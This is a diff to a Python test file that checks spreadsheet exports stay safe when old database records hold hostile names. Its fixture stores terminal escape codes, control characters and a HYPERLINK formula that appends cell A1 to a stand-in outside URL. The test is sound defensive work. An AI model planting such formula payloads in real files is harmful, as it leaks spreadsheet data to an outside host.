@@ -105,15 +105,16 @@ def test_export_writes_formula_like_text_as_text_and_survives_illegal_characters
 
 
 def _stored_hostile_names(world):
-    """Old data: hostile names written straight to the database, as if from before the rule."""
+    """Old data: hostile names written straight to the database, as if from before the rule (\x01 rather than
+    NUL, which PostgreSQL itself refuses to store; openpyxl refuses both)."""
     town = world.regions["town_a"]
     worker = make_worker(town, name="旧社工", seq=7)
     volunteer = Volunteer.objects.create(region=town, name="旧志愿者", id_number=valid_id(seq=8))
     recipient = make_recipient(VILLAGE_A1, name="旧对象")
-    SocialWorker.objects.filter(pk=worker.pk).update(name="社\x00工\x1b[31m")
+    SocialWorker.objects.filter(pk=worker.pk).update(name="社\x01工\x1b[31m")
     Volunteer.objects.filter(pk=volunteer.pk).update(name='=HYPERLINK("http://x.example/"&A1,"详情")')
-    Recipient.objects.filter(pk=recipient.pk).update(name="对\x1b[2J象\x00")
-    Organisation.objects.filter(pk=world.org_a.pk).update(name="机\x00构")
+    Recipient.objects.filter(pk=recipient.pk).update(name="对\x1b[2J象\x01")
+    Organisation.objects.filter(pk=world.org_a.pk).update(name="机\x01构")
 
 
 def test_exports_answer_with_old_hostile_names(world, login, client):
